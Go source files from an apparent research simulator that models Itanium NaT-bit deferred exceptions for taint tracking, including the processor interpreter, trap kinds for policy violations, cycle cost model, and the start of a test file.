	return fmt.Sprintf("oracle divergence (%s) at tid=%d pc=%d [%s]: %s machine=%v shadow=%v\n%s",
		d.Kind, d.TID, d.PC, d.Ins, where, d.Machine, d.Shadow, d.Snapshot)
}

// snapshot renders the machine and shadow state for the report: every
// register that is non-zero, NaT'd or shadow-tainted, one per line.
func (o *Oracle) snapshot(m *machine.Machine) string {
	var b strings.Builder
	rs := o.regs(m.TID)
	fmt.Fprintf(&b, "  tid=%d pc=%d retired=%d cycles=%d halted=%v\n",
		m.TID, m.PC, m.Retired, m.Cycles, m.Halted)
	fmt.Fprintf(&b, "  UNAT=%#x CCV=%#x\n", m.UNAT, m.CCV)
	for r := 0; r < isa.NumGR; r++ {
		if m.GR[r] == 0 && !m.NaT[r] && !rs.taint[r] {
			continue
		}
		fmt.Fprintf(&b, "  r%-3d = %#-18x nat=%-5v shadow=%v\n", r, uint64(m.GR[r]), m.NaT[r], rs.taint[r])
	}
	if n := len(o.pending); n > 0 {
		fmt.Fprintf(&b, "  pending unit checks: %d\n", n)
	}
	return b.String()
}
