// Package machine implements the simulated processor: the deferred-
// exception (NaT-bit) datapath of paper §2.2, the Itanium-specific
// behaviours of §4.1 (NaT-sensitive compares, spill/fill through UNAT,
// plain loads stripping NaT), the optional enhancement instructions of
// §4.4/§6.3, a deterministic cycle cost model with per-cost-class
// accounting (Figure 9), and the system-call boundary where the OS model
// and policy engine plug in.
package machine

import (
	"fmt"

	"shift/internal/isa"
	"shift/internal/mem"
)

// Features selects which of the paper's proposed architectural
// enhancements exist on this machine (§6.3). The baseline Itanium has
// neither.
type Features struct {
	SetClrNaT   bool // enhancement 1: setnat/clrnat instructions
	NaTAwareCmp bool // enhancement 2: cmp.na / cmpi.na
}

// TrapKind classifies execution traps. The NaT-consumption kinds are the
// hardware events that SHIFT's low-level policies L1–L3 map onto.
type TrapKind uint8

// Trap kinds.
const (
	TrapNone         TrapKind = iota
	TrapNaTLoadAddr           // NaT'd address register in a load (policy L1)
	TrapNaTStoreAddr          // NaT'd address register in a store (policy L2)
	TrapNaTStoreData          // NaT'd data in a plain (non-spill) store
	TrapNaTBranch             // NaT'd value moved into a branch register (policy L3)
	TrapNaTSyscall            // NaT'd scalar syscall argument (policy L3)
	TrapMemFault              // memory fault in a non-speculative access
	TrapIllegal               // undefined or feature-gated instruction
	TrapDivZero               // integer division by zero
	TrapBadPC                 // control transferred outside the text
	TrapBudget                // instruction budget exhausted (runaway guard)
	TrapHostError             // OS-model/internal error (see Err)
	TrapOracle                // lockstep oracle detected a divergence (see Err)
)

// String names the trap kind.
func (k TrapKind) String() string {
	switch k {
	case TrapNone:
		return "none"
	case TrapNaTLoadAddr:
		return "nat-consumption:load-address"
	case TrapNaTStoreAddr:
		return "nat-consumption:store-address"
	case TrapNaTStoreData:
		return "nat-consumption:store-data"
	case TrapNaTBranch:
		return "nat-consumption:branch-register"
	case TrapNaTSyscall:
		return "nat-consumption:syscall-argument"
	case TrapMemFault:
		return "memory-fault"
	case TrapIllegal:
		return "illegal-instruction"
	case TrapDivZero:
		return "divide-by-zero"
	case TrapBadPC:
		return "bad-pc"
	case TrapBudget:
		return "instruction-budget-exhausted"
	case TrapHostError:
		return "host-error"
	case TrapOracle:
		return "oracle-divergence"
	}
	return fmt.Sprintf("trap(%d)", uint8(k))
}

// IsNaTConsumption reports whether the trap is a NaT-consumption fault,
// i.e. raised by the deferred-exception hardware on an improper use of a
// tagged register (paper §2.2: "Improper uses of the tokens will trigger
// an exception").
func (k TrapKind) IsNaTConsumption() bool {
	switch k {
	case TrapNaTLoadAddr, TrapNaTStoreAddr, TrapNaTStoreData, TrapNaTBranch, TrapNaTSyscall:
		return true
	}
	return false
}

// Trap describes an execution trap.
type Trap struct {
	Kind TrapKind
	PC   int    // instruction index that trapped
	Addr uint64 // faulting address, if a memory access
	Reg  uint8  // offending register, if a NaT consumption
	Ins  string // disassembly of the trapping instruction
	Err  error  // detail for TrapHostError / TrapMemFault
}

// Error implements the error interface.
func (t *Trap) Error() string {
	s := fmt.Sprintf("trap %s at pc=%d [%s]", t.Kind, t.PC, t.Ins)
	if t.Kind == TrapMemFault || t.Addr != 0 {
		s += fmt.Sprintf(" addr=%#x", t.Addr)
	}
	if t.Err != nil {
		s += ": " + t.Err.Error()
	}
	return s
}

// Costs is the deterministic cycle model. It is deliberately simple: the
// paper's performance story is about instruction counts added per load,
// store and compare, so a per-instruction charge plus a cache-miss penalty
// captures the shape of every figure.
type Costs struct {
	ALU       uint64 // simple integer op, mov, compares, tnat
	Movl      uint64 // movl (two issue slots on Itanium)
	MulDiv    uint64 // mul/div/rem
	Ld        uint64 // load hitting L1
	LdMiss    uint64 // additional penalty on an L1 miss
	St        uint64 // store
	SpillFill uint64 // st8.spill / ld8.fill extra over a plain access
	Chk       uint64 // chk.s (not taken)
	Br        uint64 // any taken or not-taken branch
	Nop       uint64
	PredOff   uint64 // predicated-off instruction (fetch slot only)
	Syscall   uint64 // base cost of entering the OS model
	Defer     uint64 // extra cost when a speculative load defers a fault
	// (the failed translation completes before the token is written —
	// this is what makes manufacturing a NaT by faulting expensive,
	// paper §4.4)
}

// DefaultCosts returns the model used throughout the evaluation.
func DefaultCosts() Costs {
	return Costs{
		ALU:       1,
		Movl:      2,
		MulDiv:    4,
		Ld:        2,
		LdMiss:    12,
		St:        1,
		SpillFill: 2,
		Chk:       1,
		Br:        1,
		Nop:       1,
		PredOff:   1,
		Syscall:   200,
		Defer:     30,
	}
}

// StepHook observes retirement in lockstep with execution. PreStep runs
// after fetch, before any architectural effect (including the qualifying-
// predicate squash), so the hook can capture pre-state; PostStep runs
// after the instruction's effects commit and before the PC advances.
// A non-nil PostStep error aborts execution with a TrapOracle wrapping
// it. Neither callback runs for an instruction that traps — execution is
// aborting anyway and the machine state is mid-instruction.
//
// The hook exists for the differential taint oracle (internal/oracle),
// but is generic: any observer needing per-retirement visibility can
// attach without touching the interpreter.
type StepHook interface {
	PreStep(m *Machine, ins *isa.Instruction)
	PostStep(m *Machine, ins *isa.Instruction) error
}

// MultiHook fans one retirement stream out to several observers (e.g.
// the lockstep oracle plus the flight recorder). The interpreter's hot
// path still pays its single nil check; the slice walk lands only on
// runs that asked for more than one observer. PostStep errors stop at
// the first failing hook, matching the single-hook abort semantics.
type MultiHook []StepHook

// PreStep implements StepHook.
func (h MultiHook) PreStep(m *Machine, ins *isa.Instruction) {
	for _, s := range h {
		s.PreStep(m, ins)
	}
}

// PostStep implements StepHook.
func (h MultiHook) PostStep(m *Machine, ins *isa.Instruction) error {
	for _, s := range h {
		if err := s.PostStep(m, ins); err != nil {
			return err
		}
	}
	return nil
}

// SyscallHandler is the OS model invoked by the syscall instruction. It
// may read registers and memory through the machine, must set the result
// in r8 if the call returns a value, and returns extra cycles to charge
// (e.g. proportional to bytes of I/O). Returning a non-nil trap aborts
// execution — this is how policy violations at syscall sinks surface.
type SyscallHandler interface {
	Syscall(m *Machine, num int64) (extraCycles uint64, trap *Trap)
}

// Machine is one simulated processor plus its memory.
type Machine struct {
	GR  [isa.NumGR]int64
	NaT [isa.NumGR]bool
	PR  [isa.NumPR]bool
	BR  [isa.NumBR]int64

	// UNAT collects NaT bits spilled by st8.spill, indexed by the
	// instruction's UNAT bit operand, and is consumed by ld8.fill.
	UNAT uint64
	// CCV is the compare value for cmpxchg (Itanium ar.ccv).
	CCV uint64

	PC   int
	Prog *isa.Program
	Mem  *mem.Memory
	OS   SyscallHandler

	Feat  Features
	Costs Costs

	// Accounting. Cycles and the per-cost-class split are always on (every
	// figure needs them); the optional per-opcode and per-PC counters live
	// behind the Stats hook so the common path touches minimal state.
	Cycles        uint64
	CyclesByClass [isa.NumCostClasses]uint64
	Retired       uint64

	// Budget bounds total retired instructions; 0 means the default.
	Budget uint64

	// Stats, when non-nil (see EnableStats / EnableProfile), collects
	// optional per-opcode and per-PC retirement counts.
	Stats *Stats

	// Hook, when non-nil, observes every retirement (one nil check per
	// instruction on the hot path).
	Hook StepHook

	Halted     bool
	ExitStatus int64

	// TID identifies the thread when running under a Scheduler.
	TID int
	// YieldReq asks the scheduler to end the current time slice (set by
	// the yield/join syscalls).
	YieldReq bool
	// UnsafePreempt lets a quantum expiry end the time slice anywhere,
	// including between a data store and its tag-update sequence — the
	// exact window of the paper's §4.4 bitmap hazard. By default a slice
	// only ends when the next instruction to run is an original-program
	// instruction, so every instrumentation block (store + tag update,
	// load + register taint) retires without an interleaved sibling
	// thread. The unsafe mode exists to reproduce the hazard on demand.
	UnsafePreempt bool

	// Engine selects the execution engine for Run and scheduler slices
	// (see block.go). The zero value is the block engine; Step always
	// uses the interpreter.
	Engine Engine

	// BlockStats counts this machine's translation-cache traffic under
	// the block engine. Reset zeroes the counters (like Cycles/Retired);
	// the cache itself survives.
	BlockStats BlockStats

	// nextPC is the block engine's successor-PC scratch slot: terminator
	// micro-ops publish where control goes next, and the driver commits
	// it to PC only after the PostStep hook has observed the instruction
	// (matching the interpreter's PostStep-before-advance ordering).
	nextPC int

	// tc is the attached translation cache; tcText is the text slice it
	// was last validated against (the per-slice identity fast path).
	// Both survive Reset: compiled blocks are a property of the program
	// text, not of one run.
	tc     *TransCache
	tcText []isa.Instruction
}

// Stats holds the optional accounting a Machine only pays for when a
// caller asks (workload reporting, profiling): one nil check on the hot
// path gates all of it.
type Stats struct {
	// RetiredByOp counts retirements per opcode.
	RetiredByOp [isa.NumOpcodes]uint64
	// Profile, when non-nil (see EnableProfile), counts retirements per
	// instruction index.
	Profile []uint64
}

// EnableStats turns on per-opcode retirement accounting (InstructionMix
// reads it) and returns the collector.
func (m *Machine) EnableStats() *Stats {
	if m.Stats == nil {
		m.Stats = &Stats{}
	}
	return m.Stats
}

// HaltPC is the sentinel return address given to spawned threads: a
// return to it halts the thread cleanly (its function's result becomes
// the thread's exit status).
const HaltPC = -1

// DefaultBudget is the runaway guard applied when Budget is zero.
const DefaultBudget = 2_000_000_000

// New builds a machine over a linked program and memory.
func New(p *isa.Program, m *mem.Memory) *Machine {
	mach := &Machine{Prog: p, Mem: m, Costs: DefaultCosts()}
	mach.PR[0] = true
	mach.PC = p.Entry
	return mach
}

// Reset rewinds execution state (registers, accounting) but not memory.
// The Stats collector survives with its counters zeroed: EnableStats and
// EnableProfile express a standing request for accounting, not a
// per-run one, so a Reset must not silently turn them off. The engine
// selection and translation cache survive for the same reason — the
// cache holds compiled program text, which a Reset does not change, so
// dropping it would force a full recompile on every rerun.
//
// Per-run identity does NOT survive: TID and Hook are cleared. Both
// belong to one run — the TID is assigned by that run's scheduler, and
// the hook (oracle, tracer, tag pipeline) holds that run's shadow
// state — so carrying them into a reused machine misattributes the next
// run's trace slices to the previous thread and feeds a live checker a
// machine it no longer models. A pooled guest recycled with a stale
// hook would hand request N's oracle request N+1's retirement stream.
// Callers that genuinely re-run the same configuration (bench reruns
// with one standing observer) opt back in with ResetKeepIdentity.
func (m *Machine) Reset() {
	m.reset(0, nil)
}

// ResetKeepIdentity is Reset preserving the machine's TID and Hook —
// the legacy behavior, for reruns where the caller guarantees the
// observer and thread identity really do span runs.
func (m *Machine) ResetKeepIdentity() {
	m.reset(m.TID, m.Hook)
}

func (m *Machine) reset(tid int, hook StepHook) {
	st := m.Stats
	*m = Machine{Prog: m.Prog, Mem: m.Mem, OS: m.OS, Feat: m.Feat, Costs: m.Costs, Budget: m.Budget, TID: tid, Hook: hook, UnsafePreempt: m.UnsafePreempt, Stats: st, Engine: m.Engine, tc: m.tc, tcText: m.tcText}
	if st != nil {
		prof := st.Profile
		*st = Stats{}
		if prof != nil {
			clear(prof)
			st.Profile = prof
		}
	}
	m.PR[0] = true
	m.PC = m.Prog.Entry
}

// setGR writes a general register with a NaT bit, preserving r0 == 0.
func (m *Machine) setGR(r uint8, v int64, nat bool) {
	if r == isa.RegZero {
		return
	}
	m.GR[r] = v
	m.NaT[r] = nat
}

// trap builds a trap for the current instruction.
func (m *Machine) trap(kind TrapKind, ins *isa.Instruction, addr uint64, reg uint8, err error) *Trap {
	return &Trap{Kind: kind, PC: m.PC, Addr: addr, Reg: reg, Ins: ins.String(), Err: err}
}

// charge accounts cycles to the instruction's cost class.
func (m *Machine) charge(ins *isa.Instruction, cycles uint64) {
	m.Cycles += cycles
	m.CyclesByClass[ins.Class] += cycles
}

// resolveBudget returns the effective retirement bound.
func (m *Machine) resolveBudget() uint64 {
	if m.Budget == 0 {
		return DefaultBudget
	}
	return m.Budget
}

// Step executes one instruction. It returns a trap on a fault and nil
// otherwise. After a clean exit syscall, Halted is true. Run and the
// scheduler's slice loop use exec directly so the interpreter loop stays
// inside one function call; Step is the convenience for
// single-instruction callers.
func (m *Machine) Step() *Trap {
	return m.exec(m.Prog.Text, m.resolveBudget(), 0, true)
}

// exec is the interpreter core: it retires instructions until the machine
// halts, requests a yield, reaches sliceEnd cycles, or traps (one
// instruction when single is set — the slice conditions sit at the bottom
// of the loop, so the first instruction always runs). Keeping the loop
// inside the function means the call overhead and budget/text hoisting
// are paid per slice, not per instruction. Trap construction — including
// the instruction disassembly carried in Trap.Ins — happens only on paths
// where a trap actually escapes, so the common path allocates nothing.
func (m *Machine) exec(text []isa.Instruction, budget, sliceEnd uint64, single bool) *Trap {
	// Loop-invariant state is hoisted once per slice instead of re-read
	// per retirement: the hook, stats collector, preemption mode and cost
	// table are all fixed before a run starts (budget resolution is
	// likewise per-slice — the callers pass it in). The slice-boundary
	// test at the bottom uses the hoisted copies inline.
	n := uint(len(text))
	st := m.Stats
	h := m.Hook
	unsafePre := m.UnsafePreempt
	c := &m.Costs
	for {
		// One unsigned compare covers both out-of-range directions (HaltPC
		// is negative, so it lands here too).
		if uint(m.PC) >= n {
			if m.PC == HaltPC {
				m.Halt(m.GR[isa.RegRet])
				return nil
			}
			return &Trap{Kind: TrapBadPC, PC: m.PC, Ins: "<none>"}
		}
		if m.Retired >= budget {
			return &Trap{Kind: TrapBudget, PC: m.PC, Ins: text[m.PC].String()}
		}
		ins := &text[m.PC]
		m.Retired++
		if st != nil {
			st.RetiredByOp[ins.Op]++
			if st.Profile != nil {
				st.Profile[m.PC]++
			}
		}
		if h != nil {
			h.PreStep(m, ins)
		}

		// Qualifying predicate: a predicated-off instruction consumes its
		// fetch slot but performs no architectural work.
		if ins.Qp != 0 && !m.PR[ins.Qp] {
			m.charge(ins, c.PredOff)
			if h != nil {
				if err := h.PostStep(m, ins); err != nil {
					return m.trap(TrapOracle, ins, 0, 0, err)
				}
			}
			m.PC++
			if single || m.YieldReq || (m.Cycles >= sliceEnd && (unsafePre || uint(m.PC) >= n || text[m.PC].Class == isa.ClassOrig)) {
				return nil
			}
			continue
		}

		next := m.PC + 1

		// ALU operations are individual case arms with the operator applied
		// in place: the shared helper this replaced cost a call plus a second
		// opcode dispatch on the interpreter's hottest instructions.
		switch ins.Op {
		case isa.OpAdd:
			m.setGR(ins.Dest, m.GR[ins.Src1]+m.GR[ins.Src2], m.NaT[ins.Src1] || m.NaT[ins.Src2])
			m.charge(ins, c.ALU)

		case isa.OpSub:
			// The sub self-clearing idiom (paper §3.2): the result is
			// independent of the register's content, so the token clears.
			if ins.Src1 == ins.Src2 {
				m.setGR(ins.Dest, 0, false)
			} else {
				m.setGR(ins.Dest, m.GR[ins.Src1]-m.GR[ins.Src2], m.NaT[ins.Src1] || m.NaT[ins.Src2])
			}
			m.charge(ins, c.ALU)

		case isa.OpAnd:
			m.setGR(ins.Dest, m.GR[ins.Src1]&m.GR[ins.Src2], m.NaT[ins.Src1] || m.NaT[ins.Src2])
			m.charge(ins, c.ALU)

		case isa.OpAndcm:
			m.setGR(ins.Dest, m.GR[ins.Src1]&^m.GR[ins.Src2], m.NaT[ins.Src1] || m.NaT[ins.Src2])
			m.charge(ins, c.ALU)

		case isa.OpOr:
			m.setGR(ins.Dest, m.GR[ins.Src1]|m.GR[ins.Src2], m.NaT[ins.Src1] || m.NaT[ins.Src2])
			m.charge(ins, c.ALU)

		case isa.OpXor:
			// The xor self-clearing idiom, as for sub.
			if ins.Src1 == ins.Src2 {
				m.setGR(ins.Dest, 0, false)
			} else {
				m.setGR(ins.Dest, m.GR[ins.Src1]^m.GR[ins.Src2], m.NaT[ins.Src1] || m.NaT[ins.Src2])
			}
			m.charge(ins, c.ALU)

		case isa.OpShl:
			m.setGR(ins.Dest, m.GR[ins.Src1]<<(uint64(m.GR[ins.Src2])&63), m.NaT[ins.Src1] || m.NaT[ins.Src2])
			m.charge(ins, c.ALU)

		case isa.OpShr:
			m.setGR(ins.Dest, int64(uint64(m.GR[ins.Src1])>>(uint64(m.GR[ins.Src2])&63)), m.NaT[ins.Src1] || m.NaT[ins.Src2])
			m.charge(ins, c.ALU)

		case isa.OpSar:
			m.setGR(ins.Dest, m.GR[ins.Src1]>>(uint64(m.GR[ins.Src2])&63), m.NaT[ins.Src1] || m.NaT[ins.Src2])
			m.charge(ins, c.ALU)

		case isa.OpMul:
			m.setGR(ins.Dest, m.GR[ins.Src1]*m.GR[ins.Src2], m.NaT[ins.Src1] || m.NaT[ins.Src2])
			m.charge(ins, c.MulDiv)

		case isa.OpDiv:
			b := m.GR[ins.Src2]
			if b == 0 {
				return m.trap(TrapDivZero, ins, 0, 0, nil)
			}
			m.setGR(ins.Dest, m.GR[ins.Src1]/b, m.NaT[ins.Src1] || m.NaT[ins.Src2])
			m.charge(ins, c.MulDiv)

		case isa.OpRem:
			b := m.GR[ins.Src2]
			if b == 0 {
				return m.trap(TrapDivZero, ins, 0, 0, nil)
			}
			m.setGR(ins.Dest, m.GR[ins.Src1]%b, m.NaT[ins.Src1] || m.NaT[ins.Src2])
			m.charge(ins, c.MulDiv)

		case isa.OpAddi:
			m.setGR(ins.Dest, m.GR[ins.Src1]+ins.Imm, m.NaT[ins.Src1])
			m.charge(ins, c.ALU)

		case isa.OpAndi:
			m.setGR(ins.Dest, m.GR[ins.Src1]&ins.Imm, m.NaT[ins.Src1])
			m.charge(ins, c.ALU)

		case isa.OpOri:
			m.setGR(ins.Dest, m.GR[ins.Src1]|ins.Imm, m.NaT[ins.Src1])
			m.charge(ins, c.ALU)

		case isa.OpXori:
			m.setGR(ins.Dest, m.GR[ins.Src1]^ins.Imm, m.NaT[ins.Src1])
			m.charge(ins, c.ALU)

		case isa.OpShli:
			m.setGR(ins.Dest, m.GR[ins.Src1]<<(uint64(ins.Imm)&63), m.NaT[ins.Src1])
			m.charge(ins, c.ALU)

		case isa.OpShri:
			m.setGR(ins.Dest, int64(uint64(m.GR[ins.Src1])>>(uint64(ins.Imm)&63)), m.NaT[ins.Src1])
			m.charge(ins, c.ALU)

		case isa.OpSari:
			m.setGR(ins.Dest, m.GR[ins.Src1]>>(uint64(ins.Imm)&63), m.NaT[ins.Src1])
			m.charge(ins, c.ALU)

		case isa.OpMov:
			m.setGR(ins.Dest, m.GR[ins.Src1], m.NaT[ins.Src1])
			m.charge(ins, c.ALU)

		case isa.OpMovl:
			m.setGR(ins.Dest, ins.Imm, false)
			m.charge(ins, c.Movl)

		case isa.OpCmp, isa.OpCmpi:
			var b int64
			var natB bool
			if ins.Op == isa.OpCmp {
				b, natB = m.GR[ins.Src2], m.NaT[ins.Src2]
			} else {
				b = ins.Imm
			}
			if m.NaT[ins.Src1] || natB {
				// NaT-sensitive: clear both predicate targets so neither
				// branch direction commits state (paper §3.1).
				m.setPR(ins.P1, false)
				m.setPR(ins.P2, false)
			} else {
				r := ins.Cond.Eval(m.GR[ins.Src1], b)
				m.setPR(ins.P1, r)
				m.setPR(ins.P2, !r)
			}
			m.charge(ins, c.ALU)

		case isa.OpCmpNa, isa.OpCmpiNa:
			if !m.Feat.NaTAwareCmp {
				return m.trap(TrapIllegal, ins, 0, 0, fmt.Errorf("cmp.na requires the NaT-aware-compare enhancement"))
			}
			var b int64
			if ins.Op == isa.OpCmpNa {
				b = m.GR[ins.Src2]
			} else {
				b = ins.Imm
			}
			r := ins.Cond.Eval(m.GR[ins.Src1], b)
			m.setPR(ins.P1, r)
			m.setPR(ins.P2, !r)
			m.charge(ins, c.ALU)

		case isa.OpTnat:
			m.setPR(ins.P1, m.NaT[ins.Src1])
			m.setPR(ins.P2, !m.NaT[ins.Src1])
			m.charge(ins, c.ALU)

		case isa.OpLd:
			if m.NaT[ins.Src1] {
				return m.trap(TrapNaTLoadAddr, ins, uint64(m.GR[ins.Src1]), ins.Src1, nil)
			}
			addr := uint64(m.GR[ins.Src1])
			v, missed, fault := m.read(addr, int(ins.Size))
			if fault != nil {
				return m.trap(TrapMemFault, ins, addr, 0, fault)
			}
			// A plain load always clears the destination's NaT bit; this is
			// the behaviour SHIFT exploits to strip a token (§4.1).
			m.setGR(ins.Dest, int64(v), false)
			m.chargeLoad(ins, missed)

		case isa.OpLdS:
			// Control-speculative load: faults (including a NaT'd address)
			// become a deferred-exception token instead of a trap. Deferral
			// is not free: the failed access runs to completion first.
			if m.NaT[ins.Src1] {
				m.setGR(ins.Dest, 0, true)
				m.charge(ins, c.Ld+c.Defer)
				break
			}
			addr := uint64(m.GR[ins.Src1])
			v, missed, fault := m.read(addr, int(ins.Size))
			if fault != nil {
				m.setGR(ins.Dest, 0, true)
				m.charge(ins, c.Ld+c.Defer)
				break
			}
			m.setGR(ins.Dest, int64(v), false)
			m.chargeLoad(ins, missed)

		case isa.OpLdFill:
			if m.NaT[ins.Src1] {
				return m.trap(TrapNaTLoadAddr, ins, uint64(m.GR[ins.Src1]), ins.Src1, nil)
			}
			addr := uint64(m.GR[ins.Src1])
			v, missed, fault := m.read(addr, 8)
			if fault != nil {
				return m.trap(TrapMemFault, ins, addr, 0, fault)
			}
			m.setGR(ins.Dest, int64(v), m.UNAT>>uint(ins.Imm)&1 != 0)
			m.chargeLoad(ins, missed)
			m.charge(ins, c.SpillFill)

		case isa.OpSt:
			if m.NaT[ins.Src1] {
				return m.trap(TrapNaTStoreAddr, ins, uint64(m.GR[ins.Src1]), ins.Src1, nil)
			}
			if m.NaT[ins.Src2] {
				// Plain stores may not consume a token (§2.2): committing
				// speculative state to memory is irreversible.
				return m.trap(TrapNaTStoreData, ins, uint64(m.GR[ins.Src1]), ins.Src2, nil)
			}
			addr := uint64(m.GR[ins.Src1])
			if fault := m.Mem.Write(addr, int(ins.Size), uint64(m.GR[ins.Src2])); fault != nil {
				return m.trap(TrapMemFault, ins, addr, 0, fault)
			}
			m.charge(ins, c.St)

		case isa.OpStSpill:
			// st8.spill tolerates NaT'd *data* (the bit goes to UNAT), but
			// the address must still be clean.
			if m.NaT[ins.Src1] {
				return m.trap(TrapNaTStoreAddr, ins, uint64(m.GR[ins.Src1]), ins.Src1, nil)
			}
			addr := uint64(m.GR[ins.Src1])
			if fault := m.Mem.Write(addr, 8, uint64(m.GR[ins.Src2])); fault != nil {
				return m.trap(TrapMemFault, ins, addr, 0, fault)
			}
			bit := uint(ins.Imm)
			if m.NaT[ins.Src2] {
				m.UNAT |= 1 << bit
			} else {
				m.UNAT &^= 1 << bit
			}
			m.charge(ins, c.St+c.SpillFill)

		case isa.OpChkS:
			if m.NaT[ins.Src1] {
				next = ins.Target
				m.charge(ins, c.Br)
			} else {
				m.charge(ins, c.Chk)
			}

		case isa.OpBr:
			next = ins.Target
			m.charge(ins, c.Br)

		case isa.OpBrCall:
			m.BR[ins.B] = int64(m.PC + 1)
			next = ins.Target
			m.charge(ins, c.Br)

		case isa.OpBrRet, isa.OpBrInd:
			next = int(m.BR[ins.B])
			m.charge(ins, c.Br)

		case isa.OpMovToBr:
			if m.NaT[ins.Src1] {
				// The L3 hardware event: tainted data may not reach the
				// registers that control transfer of control.
				return m.trap(TrapNaTBranch, ins, 0, ins.Src1, nil)
			}
			m.BR[ins.B] = m.GR[ins.Src1]
			m.charge(ins, c.ALU)

		case isa.OpMovFromBr:
			m.setGR(ins.Dest, m.BR[ins.B], false)
			m.charge(ins, c.ALU)

		case isa.OpMovToUnat:
			if m.NaT[ins.Src1] {
				return m.trap(TrapNaTBranch, ins, 0, ins.Src1, nil)
			}
			m.UNAT = uint64(m.GR[ins.Src1])
			m.charge(ins, c.ALU)

		case isa.OpMovFromUnat:
			m.setGR(ins.Dest, int64(m.UNAT), false)
			m.charge(ins, c.ALU)

		case isa.OpMovToCcv:
			if m.NaT[ins.Src1] {
				return m.trap(TrapNaTBranch, ins, 0, ins.Src1, nil)
			}
			m.CCV = uint64(m.GR[ins.Src1])
			m.charge(ins, c.ALU)

		case isa.OpMovFromCcv:
			m.setGR(ins.Dest, int64(m.CCV), false)
			m.charge(ins, c.ALU)

		case isa.OpCmpxchg:
			// Atomic by construction: the whole read-compare-write happens
			// within one Step, which the scheduler never splits.
			if m.NaT[ins.Src1] {
				return m.trap(TrapNaTStoreAddr, ins, uint64(m.GR[ins.Src1]), ins.Src1, nil)
			}
			if m.NaT[ins.Src2] {
				return m.trap(TrapNaTStoreData, ins, uint64(m.GR[ins.Src1]), ins.Src2, nil)
			}
			addr := uint64(m.GR[ins.Src1])
			old, missed, fault := m.read(addr, int(ins.Size))
			if fault != nil {
				return m.trap(TrapMemFault, ins, addr, 0, fault)
			}
			if old == m.CCV {
				if fault := m.Mem.Write(addr, int(ins.Size), uint64(m.GR[ins.Src2])); fault != nil {
					return m.trap(TrapMemFault, ins, addr, 0, fault)
				}
			}
			m.setGR(ins.Dest, int64(old), false)
			m.chargeLoad(ins, missed)
			m.charge(ins, c.St) // semaphore ops pay both halves

		case isa.OpSetNat:
			if !m.Feat.SetClrNaT {
				return m.trap(TrapIllegal, ins, 0, 0, fmt.Errorf("setnat requires the set/clear-NaT enhancement"))
			}
			m.NaT[ins.Dest] = ins.Dest != isa.RegZero
			m.charge(ins, c.ALU)

		case isa.OpClrNat:
			if !m.Feat.SetClrNaT {
				return m.trap(TrapIllegal, ins, 0, 0, fmt.Errorf("clrnat requires the set/clear-NaT enhancement"))
			}
			m.NaT[ins.Dest] = false
			m.charge(ins, c.ALU)

		case isa.OpSyscall:
			if m.OS == nil {
				return m.trap(TrapHostError, ins, 0, 0, fmt.Errorf("no syscall handler installed"))
			}
			m.charge(ins, c.Syscall)
			extra, trap := m.OS.Syscall(m, ins.Imm)
			m.charge(ins, extra)
			if trap != nil {
				return trap
			}
			// On halt the bottom-of-loop check ends the run; falling
			// through keeps the PostStep hook on the exit path.

		case isa.OpNop:
			m.charge(ins, c.Nop)

		default:
			return m.trap(TrapIllegal, ins, 0, 0, fmt.Errorf("undefined opcode"))
		}

		if h != nil {
			if err := h.PostStep(m, ins); err != nil {
				return m.trap(TrapOracle, ins, 0, 0, err)
			}
		}
		m.PC = next
		if single || m.Halted || m.YieldReq || (m.Cycles >= sliceEnd && (unsafePre || uint(m.PC) >= n || text[m.PC].Class == isa.ClassOrig)) {
			return nil
		}
	}
}

// sliceBoundary reports whether the current PC is a point where a
// quantum expiry may end the time slice. The default is tag-coherent
// preemption: a slice ends only when the next instruction to run is an
// original-program instruction (or the PC left the text), so an
// instrumentation block — in particular the data-store-to-tag-update
// pair of Figure 5 — always retires whole before a sibling thread runs.
// That atomicity is what makes the tag bitmap coherent across threads
// and the lockstep oracle's cross-thread checks sound. UnsafePreempt
// disables the rule to reproduce the §4.4 hazard. Yields, halts and
// traps are unaffected: the yield/join syscalls are original
// instructions, so they already sit on block boundaries.
func (m *Machine) sliceBoundary(text []isa.Instruction) bool {
	return m.UnsafePreempt || uint(m.PC) >= uint(len(text)) || text[m.PC].Class == isa.ClassOrig
}

// read performs a data read and reports whether it missed in the L1 model.
func (m *Machine) read(addr uint64, size int) (v uint64, missed bool, fault *mem.Fault) {
	return m.Mem.ReadMiss(addr, size)
}

// chargeLoad charges a load, adding the miss penalty per the cache model.
func (m *Machine) chargeLoad(ins *isa.Instruction, missed bool) {
	cost := m.Costs.Ld
	if missed {
		cost += m.Costs.LdMiss
	}
	m.charge(ins, cost)
}

// setPR writes a predicate register, preserving p0 == true.
func (m *Machine) setPR(p uint8, v bool) {
	if p == 0 {
		return
	}
	m.PR[p] = v
}

// Halt stops execution with the given status (used by the exit syscall).
func (m *Machine) Halt(status int64) {
	m.Halted = true
	m.ExitStatus = status
}

// Run executes until halt or trap on the machine's selected engine. The
// budget resolution and text bounds are hoisted out of the
// per-instruction path (Budget and Prog are fixed before a run starts).
// Yield requests are meaningless without a scheduler and do not stop the
// run.
func (m *Machine) Run() *Trap {
	text := m.Prog.Text
	budget := m.resolveBudget()
	for !m.Halted {
		if trap := m.slice(text, budget, ^uint64(0)); trap != nil {
			return trap
		}
	}
	return nil
}

// InstructionMix summarises retired instructions for workload reporting:
// fractions of loads, stores and compares, the knobs that determine the
// paper's per-benchmark slowdowns. It needs the per-opcode counters, so
// EnableStats must have been called before the run.
func (m *Machine) InstructionMix() (loads, stores, compares, branches float64) {
	total := float64(m.Retired)
	if total == 0 || m.Stats == nil {
		return 0, 0, 0, 0
	}
	byOp := &m.Stats.RetiredByOp
	ld := byOp[isa.OpLd] + byOp[isa.OpLdS] + byOp[isa.OpLdFill]
	st := byOp[isa.OpSt] + byOp[isa.OpStSpill]
	cmp := byOp[isa.OpCmp] + byOp[isa.OpCmpi] + byOp[isa.OpCmpNa] + byOp[isa.OpCmpiNa]
	br := byOp[isa.OpBr] + byOp[isa.OpBrCall] + byOp[isa.OpBrRet] + byOp[isa.OpBrInd]
	return float64(ld) / total, float64(st) / total, float64(cmp) / total, float64(br) / total
}
