package machine

import (
	"testing"
	"testing/quick"

	"shift/internal/asm"
	"shift/internal/isa"
	"shift/internal/mem"
)

// run assembles src, loads its data image, applies setup, and executes
// until halt or trap.
func run(t *testing.T, src string, feat Features, setup func(*Machine)) (*Machine, *Trap) {
	t.Helper()
	p, err := asm.Assemble(src, asm.Options{})
	if err != nil {
		t.Fatalf("assemble: %v", err)
	}
	m := mem.New()
